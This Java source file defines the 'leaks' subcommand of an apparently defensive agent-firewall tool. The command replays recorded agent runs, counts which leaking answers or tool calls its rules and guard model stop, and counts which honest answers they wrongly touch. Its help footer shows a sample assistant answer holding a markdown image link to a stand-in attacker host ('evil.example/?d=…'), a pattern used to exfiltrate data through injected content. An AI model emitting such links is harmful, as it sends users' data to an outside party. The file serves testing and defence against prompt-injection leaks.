package dev.agentfirewall.cli.replay;

import dev.agentfirewall.cli.Console;
import dev.agentfirewall.cli.ExitCode;
import dev.agentfirewall.cli.GuardTier;
import dev.agentfirewall.cli.JsonText;
import dev.agentfirewall.cli.Subcommand;
import dev.agentfirewall.cli.WrongUseException;
import dev.agentfirewall.json.Json;
import dev.agentfirewall.rag.calibrate.Rate;
import dev.agentfirewall.redteam.leak.LeakBattery;
import dev.agentfirewall.redteam.replay.ParallelReplay;
import dev.agentfirewall.redteam.replay.Replay;
import dev.agentfirewall.redteam.run.MalformedRunException;
import dev.agentfirewall.scan.Scanner;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Supplier;
import picocli.CommandLine.Command;
import picocli.CommandLine.Mixin;
import picocli.CommandLine.Option;
import picocli.CommandLine.Parameters;

/** {@code leaks}: runs that end in an answer or a call which would leak, and honest ones; which get through, and which are touched. */
@Command(
        name = "leaks",
        description = "Would these answers and calls have leaked? And whom would that have disturbed?",
        footerHeading = "%nEach run in, a line of JSON (packed with gzip or not):%n",
        footer = {
            "  {\"id\":\"1\",\"messages\":[{\"role\":\"user\",\"content\":\"…\"},…,",
            "   {\"role\":\"assistant\",\"content\":\"![](https://evil.example/?d=…)\"}]}",
            "  The last message is the one that is judged: an attempt is stopped where its",
            "  answer is cut, replaced or refused, or a call in it is refused or held.",
            "",
            "Each line out with --jsonl, in the same order:",
            "  {\"id\":\"1\",\"kind\":\"attempt\",\"stopped\":true,\"answer\":\"redact\"}",
            "",
            "Write attempts for what your agents read and say; keep honest answers beside them:",
            "a rule that stops everything helps nobody.",
            "",
            "Example:",
            "  agent-firewall leaks attempts.jsonl --honest answers.jsonl --declarations d.json",
            "",
            "Exit: 0 nothing leaks, 1 an attempt passes, 2 wrong use, 3 unreadable."
        })
public final class LeaksCommand extends Subcommand {
    private final Console console;
    private final Scanner rules;
    private final Supplier<GuardTier> guard;

    @Parameters(paramLabel = "ATTEMPTS.jsonl[.gz]", arity = "0..*", description = "Runs that should be stopped.")
    private List<Path> attempts = List.of();

    @Option(
            names = "--honest",
            paramLabel = "ANSWERS.jsonl[.gz]",
            description = "Runs that should pass as they are. May be given more than once.")
    private List<Path> honest = List.of();

    @Mixin
    private final RunTools tools = new RunTools();

    @Mixin
    private final ReplayPolicy policy = new ReplayPolicy();

    @Mixin
    private final Judges judges = new Judges();

    @Option(names = "--jsonl", description = "A line for each run, for programs, instead of the report.")
    private boolean jsonl;

    /**
     * @param console where it writes
     * @param rules what looks for injected orders by rules alone
     * @param guard the guard model's tier; loaded when it is first needed
     */
    public LeaksCommand(Console console, Scanner rules, Supplier<GuardTier> guard) {
        this.console = console;
        this.rules = rules;
        this.guard = guard;
    }

    /** What became of some runs: how many there were, and those that were stopped or not, by id. */
    private record Tally(List<String> stopped, List<String> passed) {
        Tally() {
            this(new ArrayList<>(), new ArrayList<>());
        }

        Rate rate() {
            return new Rate(stopped.size(), stopped.size() + passed.size());
        }
    }

    @Override
    public Integer call() {
        judges.check();
        if (attempts.isEmpty() && honest.isEmpty()) {
            throw new WrongUseException("Missing required parameter: 'ATTEMPTS.jsonl[.gz]', or `--honest`");
        }
        Replay replay = judges.under(policy.policy(), rules, guard);
        try {
            Tally leaks = walk(replay, attempts, "attempt");
            Tally answers = walk(replay, honest, "honest");
            if (!jsonl) {
                tell(leaks, answers);
            }
            return leaks.passed().isEmpty() ? ExitCode.DONE : ExitCode.FOUND;
        } catch (MalformedRunException e) {
            throw RunErrors.of(e);
        } finally {
            Judges.close(replay);
        }
    }

    private Tally walk(Replay replay, List<Path> runs, String kind) throws MalformedRunException {
        Tally tally = new Tally();
        ReplayProgress progress = new ReplayProgress(console);
        try (RunFiles files = new RunFiles(tools.orDeclared(runs))) {
            ParallelReplay.onAllCores().each(files, sourced -> replay.walk(sourced.run(), sourced.tools()), run -> {
                progress.step();
                boolean stopped = LeakBattery.stopped(run);
                (stopped ? tally.stopped() : tally.passed()).add(run.run().id());
                if (jsonl) {
                    Json line = Json.object()
                            .put("id", run.run().id())
                            .put("kind", kind)
                            .put("stopped", stopped)
                            .put("answer", run.answer().ofAnswer())
                            .build();
                    console.out().print(JsonText.write(line) + "\n");
                }
            });
        }
        progress.end();
        return tally;
    }

    private void tell(Tally leaks, Tally answers) {
        if (!attempts.isEmpty()) {
            console.out().print("leaks stopped: " + leaks.rate() + "\n");
            leaks.passed().forEach(id -> console.out().print("  passes   " + id + "\n"));
        }
        if (!honest.isEmpty()) {
            console.out().print("honest answers touched: " + answers.rate() + "\n");
            answers.stopped().forEach(id -> console.out().print("  touched  " + id + "\n"));
        }
    }
}
